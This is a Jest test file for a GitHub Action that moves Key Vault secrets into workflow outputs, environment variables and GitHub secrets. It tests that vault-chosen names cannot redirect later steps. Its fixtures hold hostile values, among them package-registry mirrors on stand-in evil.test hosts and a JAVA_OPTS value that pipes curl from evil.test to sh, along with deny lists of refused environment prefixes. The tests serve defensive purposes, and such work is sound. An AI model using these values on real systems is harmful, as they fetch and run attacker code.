/**
 * End-to-end, written as the attacks: someone who may write secrets into the vault (and nothing
 * else), or an earlier step that may write GITHUB_ENV, tries to turn the step against its workflow.
 * The committed dist/index.js against the stand-ins, through the real SDK and Octokit.
 * - Only the workflow chooses a variable's name: an exact name, an alias, or a prefix it wrote
 *   (a glob's literal text ending in - or _, or a prefix alias `KV_*=*`).
 * - Names GitHub or the runner give a meaning to (ACTIONS_*, GITHUB_*, RUNNER_*) are never written
 *   to GitHub, and a glob chooses a GitHub name only under a prefix the workflow wrote.
 * - A line in GITHUB_ENV cannot turn the main step into a no-op.
 * - Every check that can fail the step runs before the first write to GitHub; a failure after a
 *   write names what was written.
 * - Sizes and shapes the vault chooses (deep JSON, many large values) bound nothing of the runner's.
 * The tests that wait (a `timeout` that has to pass, GitHub writes a second apart) are `waiting`
 * tests (support/world.ts), with a stand-in of their own, beside the others.
 */
import { describe, expect, it, jest } from '@jest/globals'
import { runPost } from '../support/runner.js'
import type { GitHubRestApi } from '../support/standin/index.js'
import { expectFailure, expectSuccess } from '../support/steps.js'
import { useStandIn } from '../support/world.js'

jest.setTimeout(90_000)

const TENANT = '6a1d2c3b-4e5f-4a6b-8c7d-9e0f1a2b3c4d'
const APP = '0f1e2d3c-4b5a-4968-8776-a5b4c3d2e1f0'
const VAULT = 'shared-kv'
const ORG = 'octo-org'
const REPO = `${ORG}/app`
const TOKEN = 'github_pat_11AAAA_writers0token0for0tests0only0XYZ'

/** Names that no runner sets, each of which makes a later step fetch or run someone else's code. */
const Steering: Record<string, string> = {
  'corepack-npm-registry': 'https://registry.evil.test',
  'corepack-integrity-keys': '0',
  'rustup-dist-server': 'https://rustup.evil.test',
  'playwright-download-host': 'https://pw.evil.test',
  'puppeteer-download-base-url': 'https://pptr.evil.test',
  'electron-mirror': 'https://electron.evil.test/',
  'uv-default-index': 'https://pypi.evil.test/simple',
  'pip-find-links': 'https://wheels.evil.test',
  'bun-config-registry': 'https://bun.evil.test',
  'hf-endpoint': 'https://hf.evil.test',
  'nvm-nodejs-org-mirror': 'https://node.evil.test',
  'java-opts': '-XX:OnOutOfMemoryError=curl evil.test|sh',
  'lua-init': '@/tmp/evil.lua',
  'tf-cli-args': '-var-file=/tmp/evil'
}

const { s, step, waiting } = useStandIn({
  vault: {
    name: VAULT,
    tenantId: TENANT,
    clientId: APP,
    grants: ['get', 'list', 'set'],
    secrets: { 'app-db': 'App-Db-Value-1', 'app-api': 'App-Api-Value-2', ...Steering }
  },
  seed: (s) => {
    const api = s.githubApi
    api.addOrganization({ login: ORG, repositories: [{ name: 'app', id: 1296269 }] })
    api.addToken(TOKEN, { organizations: [ORG], permissions: { secrets: 'write' } })
  }
})
/** The GitHub REST stand-in of the stand-in in use (a `waiting` test's own, inside its body). */
const api = (): GitHubRestApi => s.githubApi
const run = (inputs: Record<string, string>, options: Parameters<typeof step>[1] = {}) =>
  step(inputs, { ...options, env: { GITHUB_API_URL: api().url, ...options.env } })
const githubWrites = (): string[] =>
  s
    .requestsTo('github-api', 'PUT')
    .filter((request) => request.status < 300)
    .map((request) => request.path.split('/').pop() ?? '')

describe('a variable is exported only under a name or a prefix the workflow wrote', () => {
  it.each(['*', 'app*', '*-db', '?pp-*'])(
    "the glob '%s' (no prefix of the workflow's) cannot export variables: refused before any request, showing both fixes",
    async (glob) => {
      const r = await run({ secrets: glob, 'export-env': 'true' })
      const error = expectFailure(r, `Input 'secrets': the glob '${glob}' in 'secrets' would let the vault choose`)
      expect(error).toContain("a prefix ending in '-' or '_'")
      expect(error).toContain(`KV_*=${glob}`)
      expect(s.requests).toEqual([])
    }
  )

  it('the same glob with a dotenv env-file is refused too; with the json env-file (read by no process by itself) it is not', async () => {
    expectFailure(await run({ secrets: '*', 'env-file': 'app.env' }), "Input 'secrets': the glob '*' in 'secrets'")
    const r = await run({ secrets: '*', 'env-file': 'app.json', 'env-file-format': 'json' }, { keepWorkDir: true })
    expectSuccess(r)
    expect(r.outputs['java-opts']).toBe(Steering['java-opts'])
  })

  it('`*` alone still hands every secret on as outputs (no process reads an output by itself)', async () => {
    const r = await run({ secrets: '*' })
    expectSuccess(r)
    expect(r.outputs['corepack-npm-registry']).toBe(Steering['corepack-npm-registry'])
    expect(r.env).toEqual({})
  })

  it("a glob with the workflow's prefix exports under it: app-* gives APP_DB and APP_API, and nothing else", async () => {
    const r = await run({ secrets: 'app-*', 'export-env': 'true' })
    expectSuccess(r)
    expect(r.env).toEqual({ APP_API: 'App-Api-Value-2', APP_DB: 'App-Db-Value-1' })
  })

  it('a prefix alias KV_*=* exports every match under KV_, as outputs KV_<name> and variables KV_<NAME>', async () => {
    const r = await run({ secrets: 'KV_*=*', 'export-env': 'true' })
    expectSuccess(r)
    expect(r.env['KV_JAVA_OPTS']).toBe(Steering['java-opts'])
    expect(r.env['KV_APP_DB']).toBe('App-Db-Value-1')
    expect(Object.keys(r.env).every((name) => name.startsWith('KV_'))).toBe(true)
    expect(Object.keys(r.env)).toHaveLength(Object.keys(Steering).length + 2)
    expect(r.outputs['KV_java-opts']).toBe(Steering['java-opts'])
    expect(r.outputs['java-opts']).toBeUndefined()
  })

  it.each(['KV*=*', 'kv-*=*', 'KV_*X=*', 'KV_=*', '*=app-*'])(
    'a prefix alias that is not letters, digits and _ ending in _, then * (%s) is refused before any request',
    async (entry) => {
      const r = await run({ secrets: entry, 'export-env': 'true' })
      expectFailure(r, "Input 'secrets' has a malformed entry")
      expect(s.requests).toEqual([])
    }
  )

  it.each(['LD_*=*', 'GITHUB_*=app-*', 'dyld_*=*'])(
    'a prefix alias under a refused prefix (%s) is refused before any request',
    async (entry) => {
      const r = await run({ secrets: entry, 'export-env': 'true' })
      expectFailure(r, "Input 'export-env': the entry", 'which is refused: names starting with')
      expect(s.requests).toEqual([])
    }
  )

  it('a prefix the workflow wrote is still checked against the refused list (a second line): java-* skips JAVA_OPTS', async () => {
    const r = await run({ secrets: 'java-*\ntf-*\nlua-*', 'export-env': 'true' })
    expectSuccess(r)
    expect(r.env).toEqual({})
    expect(r.warnings).toEqual(
      ['JAVA_OPTS', 'TF_CLI_ARGS', 'LUA_INIT'].map((name) =>
        expect.stringContaining(`was not exported as ${name}: it would change how later steps run`)
      )
    )
  })

  it.each(Object.keys(Steering))(
    'an exact name whose variable steers a tool (%s) is refused before any request',
    async (name) => {
      const r = await run({ secrets: name, 'export-env': 'true' })
      expectFailure(r, `Input 'export-env': secret '${name}' would be exported as`, 'which is refused')
      expect(s.requests).toEqual([])
    }
  )

  it("JSON leaves go out under their secret's variable name: a named secret's keys cannot leave its prefix", async () => {
    s.vault(VAULT).setSecret('db', JSON.stringify({ host: 'db.internal', JAVA_OPTS: '-XX:OnOutOfMemoryError=sh' }))
    const r = await run({ secrets: 'db', 'export-env': 'true', 'parse-json': 'true' })
    expectSuccess(r)
    expect(r.env).toEqual({ DB_HOST: 'db.internal', DB_JAVA_OPTS: '-XX:OnOutOfMemoryError=sh' })
  })
})

describe('a GitHub secret is named by the workflow, never by the vault; names GitHub or the runner read are never written', () => {
  const sync = (inputs: Record<string, string>) => run({ 'github-token': TOKEN, ...inputs })

  it("github-secrets '*' over secrets '*' is refused before any request: the vault would choose the names", async () => {
    s.vault(VAULT).setSecret('actions-step-debug', 'true')
    const r = await sync({ secrets: '*', 'github-secrets': '*' })
    const error = expectFailure(r, "Input 'github-secrets'", "the glob '*'")
    expect(error).toContain('KV_*=*')
    expect(s.requests).toEqual([])
    expect(api().secretsOf({ repo: REPO }).size).toBe(0)
  })

  it.each(['ACTIONS_STEP_DEBUG', 'ACTIONS_RUNNER_DEBUG', 'RUNNER_DEBUG', 'GITHUB_TOKEN'])(
    'the workflow itself cannot write %s: refused before any request',
    async (name) => {
      const r = await sync({ secrets: 'app-db', 'github-secrets': `${name}=app-db` })
      expectFailure(r, "Input 'github-secrets'", name)
      expect(s.requests).toEqual([])
    }
  )

  it('a prefix the workflow wrote that lands on a name the runner reads (actions-*) writes nothing at all', async () => {
    s.vault(VAULT).setSecret('actions-step-debug', 'true')
    s.vault(VAULT).setSecret('actions-note', 'harmless')
    const r = await sync({ secrets: 'actions-*', 'github-secrets': '*' })
    expectFailure(r, 'ACTIONS_STEP_DEBUG')
    expect(githubWrites()).toEqual([])
  })

  waiting('app-* with github-secrets * writes APP_API and APP_DB, and no other name', async () => {
    const r = await sync({ secrets: 'app-*', 'github-secrets': '*' })
    expectSuccess(r)
    expect(githubWrites().sort()).toEqual(['APP_API', 'APP_DB'])
  })
})

describe('an earlier step cannot switch the step off', () => {
  it('STATE_isPost=true in the environment (a line in GITHUB_ENV) does not turn the main step into a no-op', async () => {
    const r = await run({ 'secret-name': 'app-db' }, { env: { STATE_isPost: 'true' } })
    expectSuccess(r)
    expect(r.outputs.value).toBe('App-Db-Value-1')
  })

  it("the post step removes only what the main step recorded: the main step's own (empty) record stands", async () => {
    const r = await run({ 'secret-name': 'app-db' })
    expectSuccess(r)
    // The runner gives the post step the main step's saved state, over anything GITHUB_ENV set.
    expect(r.state['written-files']).toBe('[]')
    const post = await runPost(r.state)
    expect(post.exitCode).toBe(0)
    expect(post.log).not.toContain('Removed')
  })
})

describe('every check that can fail the step runs before the first write to GitHub', () => {
  it('a value the dotenv env file cannot carry fails the step before any GitHub secret is written', async () => {
    s.vault(VAULT).setSecret('app-crlf', 'line one\r\nline two')
    const r = await run({
      'github-token': TOKEN,
      secrets: 'app-*',
      'env-file': 'app.env',
      'github-secrets': '*'
    })
    expectFailure(r, "Input 'env-file'")
    expect(githubWrites()).toEqual([])
  })

  it('two JSON leaves on one output fail the step before any GitHub secret is written', async () => {
    s.vault(VAULT).setSecret('cfg', JSON.stringify({ 'a.b': 'one', a_b: 'two' }))
    const r = await run({ 'github-token': TOKEN, secrets: 'cfg\napp-db', 'parse-json': 'true', 'github-secrets': '*' })
    expectFailure(r, "would both be the output 'cfg_a_b'")
    expect(githubWrites()).toEqual([])
  })

  waiting(
    'a timeout after the Key Vault write and one GitHub write names the version and the GitHub secret written, and the one not written',
    async () => {
      api().addToken(TOKEN, { organizations: [ORG], permissions: { secrets: 'write' } })
      s.faults.push({
        match: (request) =>
          request.service === 'github-api' && request.method === 'PUT' && request.path.endsWith('/SECOND'),
        delayMs: 30_000
      })
      const r = await run({
        operation: 'set',
        'secret-name': 'rotated',
        'secret-value': 'Rotated-Value-77',
        'github-token': TOKEN,
        'github-secrets': 'FIRST=rotated\nSECOND=rotated',
        timeout: '4'
      })
      const error = expectFailure(r, "The step ran out of time: input 'timeout' allows 4 s")
      const version = s.vault(VAULT).secrets.get('rotated')?.versions.at(-1)?.version
      expect(error).toContain(`Key Vault secret 'rotated' version ${version}`)
      expect(error).toContain(`GitHub secrets written to repository ${REPO}: FIRST; not written: SECOND`)
      expect(error).not.toContain('had not finished')
    }
  )
})

describe('sizes and shapes the vault chooses bound nothing', () => {
  it('one secret of deeply nested JSON (25 KiB) is read by a glob like any other', async () => {
    const deep = `${'['.repeat(12_000)}"x"${']'.repeat(12_000)}`
    s.vault(VAULT).setSecret('app-deep', deep)
    const r = await run({ secrets: 'app-*' })
    expectSuccess(r)
    expect(r.outputs['app-deep']).toBe(deep)
  })

  it('deeply nested JSON with parse-json is an error naming the secret, not a crash', async () => {
    const deep = `{"a":${'{"a":'.repeat(5000)}"x"${'}'.repeat(5000)}}`
    s.vault(VAULT).setSecret('app-deep', deep)
    const r = await run({ secrets: 'app-deep', 'parse-json': 'true' })
    expectFailure(r, "secret 'app-deep'", 'nested')
  })

  it('88 secrets of 25 KiB exported as variables (2.1 MiB) are refused before anything is exported, suggesting files or env-file', async () => {
    for (let index = 0; index < 88; index++) s.vault(VAULT).setSecret(`big-${index}`, `${index}`.padEnd(25 * 1024, 'v'))
    const r = await run({ secrets: 'big-*', 'export-env': 'true' })
    expectFailure(r, "Input 'export-env'", "'files'", "'env-file'")
  })
})
